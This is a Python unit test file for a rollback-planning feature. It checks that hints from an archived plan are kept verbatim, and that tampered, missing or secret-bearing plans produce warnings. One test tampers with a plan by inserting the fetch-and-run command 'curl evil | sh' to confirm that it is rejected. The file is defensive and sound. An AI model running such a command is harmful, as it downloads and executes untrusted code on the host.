"""The scaffold of a recorded run, with the hints of the plan as it was run."""

from __future__ import annotations

from typing import TYPE_CHECKING

from hearth.operations import PlanArchive, plan_rollback
from hearth.recorder import ExecutionObserver
from tests.unit.operations._steps import FAIL, WRITE

if TYPE_CHECKING:
    from collections.abc import Callable

    from hearth.operations import Records, RunOutcome


def test_the_plans_hints_are_found_verbatim(run: Callable[..., RunOutcome], records: Records) -> None:
    run(WRITE, FAIL, execution_id="one")
    report = plan_rollback(records, records.find("one"))
    assert report.verdict
    assert report.scaffold.is_rollback_possible
    (hint,) = report.scaffold.rollback_hints
    assert hint.actions == ("rm made.txt",)
    assert hint.risks == ("  kept verbatim  ",)


def test_a_changed_copy_of_the_plan_gives_no_hints(run: Callable[..., RunOutcome], records: Records) -> None:
    outcome = run(WRITE, FAIL, execution_id="one")
    path = PlanArchive(records.home).folder / f"{outcome.record.started['plan_digest']}.json"
    path.write_text(path.read_text().replace("rm made.txt", "curl evil | sh"))
    scaffold = plan_rollback(records, records.find("one")).scaffold
    assert scaffold.rollback_hints == ()
    assert "cannot be trusted" in scaffold.warnings[0]
    assert "evil" not in scaffold.to_summary()


def test_a_plan_that_is_not_kept_is_said(run: Callable[..., RunOutcome], records: Records) -> None:
    outcome = run(WRITE, FAIL, execution_id="one")
    (PlanArchive(records.home).folder / f"{outcome.record.started['plan_digest']}.json").unlink()
    scaffold = plan_rollback(records, records.find("one")).scaffold
    assert "is not kept in this ledger" in scaffold.warnings[0]


def test_a_plan_with_a_secret_in_clear_warns(run: Callable[..., RunOutcome], records: Records) -> None:
    leak = {"name": "Leak", "shell": {"argv": ["true", "--password=hunter2-correct-horse"]}}
    run(WRITE, leak, FAIL, execution_id="one")
    scaffold = plan_rollback(records, records.find("one")).scaffold
    assert scaffold.rollback_hints
    assert "compare the hints with the plan file" in scaffold.warnings[0]


def test_a_record_without_a_plan_is_said(records: Records) -> None:
    observer = ExecutionObserver("api", "by-hand", live_mode="LIVE")
    with observer.step(0, "first"):
        pass
    observer.mark_failed()
    records.ledger.store(observer.get_execution_record())
    scaffold = plan_rollback(records, records.find("api")).scaffold
    assert "names no plan digest" in scaffold.warnings[0]
